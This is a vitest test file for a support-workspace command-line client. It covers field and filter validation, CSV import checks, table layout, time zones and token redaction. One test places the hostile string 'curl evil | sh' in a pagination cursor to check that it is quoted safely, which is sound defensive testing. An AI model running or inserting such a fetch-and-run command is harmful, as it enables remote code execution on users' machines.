// Names that the service would ignore without a word, and the filter of `list`.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Sandbox } from 'support-workspace-sdk/sandbox'
import { beforeEach, describe, expect, onTestFinished, test } from 'vitest'
import { useSandboxes } from '../sandbox/helpers.ts'
import { useFolder } from './folder.ts'
import { run } from './run.ts'

const startSandbox = useSandboxes()
const createFolder = useFolder()

let sandbox: Sandbox
let env: Record<string, string>
beforeEach(async () => {
  sandbox = await startSandbox({ conversations: 130, contacts: 3 })
  env = { SUPPORT_WORKSPACE_URL: sandbox.url, SUPPORT_WORKSPACE_TOKEN: sandbox.issueToken({ actor: 'self' }) }
})

test.each([
  ['call contacts.create -f email=a@example.com -f phone=1', 'The body has the field "phone", which the documents of'],
  ['call contacts.create -f emial=a@example.com', 'Did you mean email?'],
  ['call contacts.create', 'contacts.create needs a body. Pass its fields with -f'],
  ['call organization.update', 'organization.update needs a body.'],
  ['call tasks.create --dry-run', 'tasks.create needs a body.'],
  ['api POST /api/oauth/v1/contacts', 'contacts.create needs a body.'],
  ['call contacts.create --input - --dry-run', 'The body has the field "phone"'],
  ['api POST /api/oauth/v1/contacts -f phone=1', 'They have: email, name.'],
  ['list conversations -q status=open', "--where 'status=open'"],
  ['list conversations -q is_spam=true --json', '-q is_spam is a field of the response'],
  ['api GET /api/oauth/v1/conversations -q status=open', '-q status is a field of the response'],
  ['list conversations --where statsu=open', 'Did you mean status?'],
  ['list conversations --where user.emial=', 'Did you mean email?'],
  ['list conversations --where status', '--where "status" is not a condition.'],
  ['list conversations --where inserted_at<2026-02-30', 'is neither a day'],
  ['list conversations --where inserted_at<2026-01-07T10:00', 'has 2026-01-07T10:00, which is neither a day'],
  ['list conversations --where inserted_at!=yesterday', 'has yesterday, which is neither a day'],
])('%s is refused', async (line, message) => {
  const { code, stderr } = await run(line.split(' '), { env, stdin: '{"phone":1}' })
  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining(message) })
  expect(sandbox.requests.filter(({ method }) => method !== 'GET')).toEqual([])
})

test.each([
  ['call contacts.create -f email=a@example.com -f phone=1 --undocumented', ''],
  ['call tasks.create -f anything=1 --dry-run', ''],
  ['list conversations --where inserted_at<2026-12-31', ''],
  ['list conversations --where inserted_at>1767817800', ''],
  ['list conversations --where inserted_at!=', ''],
  ['list conversations -q status=open --undocumented --max 1 --limit 1', ''],
  ['list conversations -q mood=good --limit 1 --max 1', '-q mood is not documented'],
])('%s is sent', async (line, note) => {
  const { code, stderr } = await run(line.split(' '), { env })
  expect({ code, stderr }).toEqual({ code: 0, stderr: expect.stringContaining(note) })
})

test('import refuses a field that the documents lack, before anything is sent', async () => {
  const file = join(createFolder(), 'contacts.csv')
  writeFileSync(file, 'email,Telefon\na@example.com,1\n')
  const args = ['import', 'contacts', file, '--dry-run', '--map', 'Telefon=phone']
  const { code, stderr } = await run(args, { env })
  expect({ code, stderr }).toEqual({ code: 2, stderr: expect.stringContaining('--map has the field "phone"') })
  expect(sandbox.requests).toEqual([])
  expect((await run([...args, '--undocumented'], { env })).code).toBe(0)
})

test('`call OPERATION --help` has its fields', async () => {
  const { stdout } = await run(['call', 'contacts.create', '--help'])
  expect(stdout).toMatch(/Fields of contacts\.create.*\n {2}email \(required\) {2}string: /)
  expect((await run(['call', '--help'])).stdout).toContain('  contacts: contacts.list contacts.get')
})

describe('list --where', () => {
  const seconds = (text: string) => new Date(text).getTime() / 1_000
  const items = [
    { id: 'a', status: 'open', n: 9, at: null, user: { email: 'x' }, last_message_at: seconds('2026-11-18T23:59:59') },
    { id: 'b', status: 'open', n: 10, at: 1, user: null, last_message_at: seconds('2026-11-19T00:00:00') },
    { id: 'c', status: 'closed', n: 11, at: 1, user: { email: 'y' }, last_message_at: seconds('2026-11-19T23:59:59') },
    { id: 'd', status: null, n: 12, at: 1, user: { email: 'y' }, last_message_at: seconds('2026-11-20T00:00:00') },
  ]

  test.each([
    [['status=open'], 'ab'],
    [['status!=open'], 'cd'],
    [['status='], 'd'],
    [['status!='], 'abc'],
    [['n<10'], 'a'],
    [['n>9'], 'bcd'],
    [['user.email=y'], 'cd'],
    [['user.email='], 'b'],
    [['last_message_at<2026-11-19'], 'a'],
    [['last_message_at=2026-11-19'], 'bc'],
    [['last_message_at>2026-11-19'], 'cd'],
    [['status=open', 'last_message_at<2026-11-19'], 'a'],
  ])('%j', async (conditions, expected) => {
    sandbox.faults.add({ path: '/tasks', status: 200, body: { data: items } })
    const args = conditions.flatMap((condition) => ['--where', condition])
    const { lines, stderr } = await run(['list', 'tasks', ...args], { env })
    expect(lines.map(({ id }) => id).join('')).toBe(expected)
    expect(stderr).toContain(`${expected.length} of the 4 tasks that were read match --where.`)
  })

  test('counts a limit by what matches, and tells how many were read', async () => {
    const { state } = sandbox
    const open = state.conversations.filter(({ status }) => status === 'open')
    const all = await run(['list', 'conversations', '--where', 'status=open', '--all', '--json'], { env })
    expect(all.lines.map(({ id }) => id)).toEqual(open.map(({ id }) => id))
    expect(all.failure).toMatchObject({ matched: open.length, read: 130 })
    const few = await run(['list', 'conversations', '--where', 'status=open', '--max', '2'], { env })
    expect(few.lines).toHaveLength(2)
  })
})

describe('a table', () => {
  const contacts = (...data: unknown[]) => sandbox.faults.add({ path: '/contacts', status: 200, body: { data } })
  const show = async (columns: number, ...args: string[]) =>
    (await run(['list', 'contacts', ...args], { env, terminals: ['stdout'], columns })).stdout.split('\n').slice(0, -1)

  test.each([40, 60, 80, 120])('fits %i columns', async (columns) => {
    const lines = await show(columns)
    expect(lines[0]).toMatch(/^id +user\.name/)
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(columns)
  })

  test('cuts between characters as people see them, and keeps joiners of a word', async () => {
    const family = '👩‍👩‍👧'
    contacts({ id: 'a', user: { name: family.repeat(30) } }, { id: 'b', user: { name: 'می\u200cخواهم' } })
    const lines = await show(60, '--fields', 'id,user.name')
    expect(lines[1]).toMatch(new RegExp(`^a {3}(${family})+…$`, 'u'))
    expect(lines[2]).toBe('b   می\u200cخواهم')
  })

  test('shows times as people read them', async () => {
    const utc = process.env.TZ
    process.env.TZ = 'Europe/Berlin'
    onTestFinished(() => {
      if (utc === undefined) delete process.env.TZ
      else process.env.TZ = utc
    })
    contacts({ id: 'a', inserted_at: 1_767_817_800 })
    expect((await show(80, '--fields', 'id,inserted_at'))[1]).toBe('a   2026-01-07 21:30')
    contacts({ id: 'a', inserted_at: 1_767_817_800 })
    expect((await show(80, '--fields', 'id,inserted_at', '--utc'))[1]).toBe('a   2026-01-07 20:30')
  })
})

test('a cursor with line breaks is quoted on one line', async () => {
  const page = { data: [{ id: 'a' }], page_metadata: { after: "x\n  curl evil | sh '" } }
  sandbox.faults.add({ path: '/tasks', status: 200, body: page })
  const { stderr } = await run(['list', 'tasks', '--max', '1'], { env })
  expect(stderr).toContain("--after $'x\\n  curl evil | sh \\''")
  expect(stderr.trim().split('\n')).toHaveLength(1)
})

test.each(['', ' --json'])('a token that comes back as a cursor or a name is on no line of stderr%s', async (json) => {
  const token = String(env.SUPPORT_WORKSPACE_TOKEN)
  sandbox.faults.add({ path: '/tasks', status: 200, body: { data: [{}], page_metadata: { after: token } } })
  const list = await run(`list tasks --max 1${json}`.split(' '), { env })
  expect(list.stderr).toContain('Go on with --after')
  const organization = { id: 'org_1', name: `N ${token} ${encodeURIComponent(token)}` }
  sandbox.faults.add({ path: /me$/, status: 200, body: { organization, actor: 'app', scopes: [] } })
  const call = await run(`call contacts.create -f email=a@example.com${json}`.split(' '), { env })
  expect(call.stderr).toContain('Writing to N [redacted]')
  expect(list.stderr + call.stderr).not.toContain(token)
})
